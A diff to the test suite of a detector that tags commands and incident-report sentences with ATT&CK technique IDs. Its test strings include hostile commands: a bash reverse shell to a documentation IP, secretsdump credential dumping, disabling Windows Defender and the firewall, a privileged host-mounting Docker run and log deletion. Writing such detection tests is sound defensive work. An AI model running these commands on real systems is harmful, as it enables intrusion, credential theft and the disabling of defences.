@@ -65,8 +65,72 @@ describe("commands in code", () => {
     ["esxcli vm process kill --type=force --world-id=1", "T1489"],
     ["rclone copy D:\\share mega:x", "T1567.002"],
     ["7za a -pX out.7z D:\\share", "T1560.001"],
+    ["Stop-Service WinDefend", "T1489", "T1685"],
+    ["STOP-SERVICE WINDEFEND", "T1489", "T1685"],
+    [
+      'nltest /domain_trusts, net group "Domain Admins" /domain and whoami /all',
+      "T1033",
+      "T1069.002",
+      "T1482",
+    ],
+    ["adfind.exe -f (&(objectCategory=computer)(name=a*)) > users.txt", "T1018"],
+    ["bash -i >& /dev/tcp/203.0.113.9/443 0>&1", "T1059.004"],
+    ["psexec.py corp/admin@203.0.113.9", "T1021.002", "T1569.002"],
+    ["python3 secretsdump.py corp/admin@dc -just-dc", "T1003.003", "T1059.006"],
+    ["docker run --privileged -v /:/host alpine", "T1610", "T1611"],
+    ["netsh advfirewall set allprofiles state off", "T1686"],
+    ["reg query and net view", "T1012", "T1018"],
+    ['reg delete "HKLM\\Software\\Policies\\Microsoft\\Windows Defender" /f', "T1685"],
+    ["reg add HKLM\\System\\CurrentControlSet\\Services\\WdFilter /v Start /d 4", "T1685"],
+    ["whoami.exe", "T1033"],
+    ["adfind.exe"],
+    ["$data=Get-Clipboard", "T1115"],
+    ["net start", "T1007"],
+    ["net start termservice"],
+    ["wmic process where name='a.exe' delete", "T1047", "T1489"],
+    ["wevtutil el", "T1654"],
+    ["ssh -L 8080:srv:80 a@203.0.113.9", "T1572"],
+    ["ssh -D 1080 a@203.0.113.9", "T1572"],
+    [
+      "Set-ItemProperty HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name a",
+      "T1547.001",
+    ],
+    [
+      "New-ItemProperty -Path HKLM:\\Software\\Policies\\Microsoft\\WindowsFirewall -Name a",
+      "T1686",
+    ],
+    ["csvde -r (objectClass=computer) -f c.csv", "T1018"],
+    ["esxcli system welcomemsg set -m=x", "T1491.001"],
+    ["halt -p", "T1529"],
+    ["unlink /var/log/messages", "T1685.006"],
   ])("%s", (command, ...ids) => {
     expect(idsIn(block(command))).toEqual(ids);
+  });
+
+  it.each([
+    '"net": true',
+    "at: 12",
+    "ping: 203.0.113.9",
+    '{"curl": "http://files.example/a.exe", "ping": 3, "route": "/api/v1"}',
+    "hostname = SRV01",
+    "upx -d sample.exe",
+    "chmod 600 id_rsa",
+    "msiexec /uninstall {23170F69-40C1-2702-0938-000001000000} /qn",
+    "docker run -it alpine",
+    "netsh advfirewall set allprofiles state on",
+    "ssh -l admin srv",
+    "iptables -f",
+    'findstr /i "net user" a.txt',
+  ])("means nothing: %s", (line) => {
+    expect(idsIn(block(line))).toEqual([]);
+  });
+
+  it.each([
+    ["PING -N 5 127.0.0.1", "ping -n 5 127.0.0.1"],
+    ["REG QUERY HKLM\\SAM /S", "reg query hklm\\sam /s"],
+  ])("reads switches of Windows in any case: %s", (upper, lower) => {
+    expect(idsIn(block(upper))).toEqual(idsIn(block(lower)));
+    expect(idsIn(block(upper))).not.toEqual([]);
   });
 
   it("quotes the command as printed", () => {
@@ -96,9 +160,32 @@ describe("commands in sentences", () => {
     ["They ran nltest –domain_trusts afterwards.", "T1482"],
     ["The attackers used the command net localgroup administrators svc\\_sql /add.", "T1098.007"],
     ["The intruders executed whoami, ipconfig and systeminfo.", "T1016", "T1033", "T1082"],
+    [
+      'They ran nltest /domain_trusts, net group "Domain Admins" /domain and whoami /all.',
+      "T1033",
+      "T1069.002",
+      "T1482",
+    ],
+    ["In May, the group executed reg query, arp and net view then.", "T1012", "T1018"],
+    ["They used the net use command to list shares.", "T1049"],
+    ["Die Angreifer führten whoami und net view aus.", "T1018", "T1033"],
+    ["Stop-Service WinDefend", "T1489", "T1685"],
+    ["They used net user, net group and net view.", "T1018", "T1069.002", "T1087.001"],
+    ["Commands: ipconfig /all, net view /all, netstat -ano", "T1016", "T1018", "T1049"],
+    ["The actors ran Stop-Service WinDefend on the host.", "T1489", "T1685"],
+    ["They executed Get-Process and GET-SERVICE.", "T1007", "T1057"],
+    ["They ran net user administrator /active:yes and whoami /all.", "T1033", "T1078.001"],
     ["The group used AdFind to list the computers of the domain.", "T1018"],
     ["AdFind was executed to list domain trusts.", "T1482"],
     ["LaZagne was executed on two servers.", "T1555"],
+    ["Credentials were dumped via Mimikatz.", "T1003.001"],
+    ["The intruders moved laterally with PsExec.", "T1021.002", "T1569.002"],
+    ["With AdFind, the intruders listed all computers.", "T1018"],
+    ["Los atacantes volcaron las credenciales con Mimikatz.", "T1003.001"],
+    ["Les attaquants ont exfiltré les données avec Rclone.", "T1567.002"],
+    ["Die Täter luden die Akten mit rclone hoch.", "T1567.002"],
+    ["Los intrusos se movieron con PsExec.", "T1569.002"],
+    ["They mapped the share with net use.", "T1021.002"],
     ["The affiliates exfiltrated the data with Rclone.", "T1567.002"],
     ["The actors installed AnyDesk on the file server.", "T1219.002"],
     ["Die Angreifer führten nltest /domain_trusts auf dem Server aus.", "T1482"],
@@ -126,6 +213,19 @@ describe("what is no command that somebody ran", () => {
     "The router showed `show running-config` and `configure terminal`.",
     "adfind.exe d41d8cd98f00b204e9800998ecf8427e",
     "The actors did not run nltest /dclist:corp.",
+    "With AdFind you can list all computers of a domain.",
+    "Mit AdFind kann man Computer auflisten.",
+    "Avec AdFind, il est possible de lister les ordinateurs.",
+    "Los analistas confunden la muestra con Mimikatz.",
+    "The loader shares code with LaZagne.",
+    "The implant is compatible with PsExec.",
+    "Access via AnyDesk is possible.",
+    'The settings have the fields "net": true and "ping": 203.0.113.9.',
+    "The report lists net user, net group and net view.",
+    "They used query user interfaces of the bank.",
+    "Invoke-Mimikatz detection",
+    "N-able Take Control",
+    "servers:\n  ping: 203.0.113.9",
   ])("%s", (text) => {
     expect(idsIn(text)).toEqual([]);
   });
@@ -167,6 +267,8 @@ describe("hostile texts", () => {
     ["encoded data", `powershell -enc ${"QUJD".repeat(250_000)}`],
     ["backslashes", "\\".repeat(1_000_000)],
     ["brackets", "({".repeat(500_000)],
+    ["filters", "(&(a=b".repeat(160_000)],
+    ["a list of commands", "whoami, net view and ".repeat(48_000)],
   ])("reads %s in linear time", (_, text) => {
     const outline = { text, blocks: [{ ...whole(text), kind: "code", source: "format" } as const] };
     const sentences = splitSentences(outline);
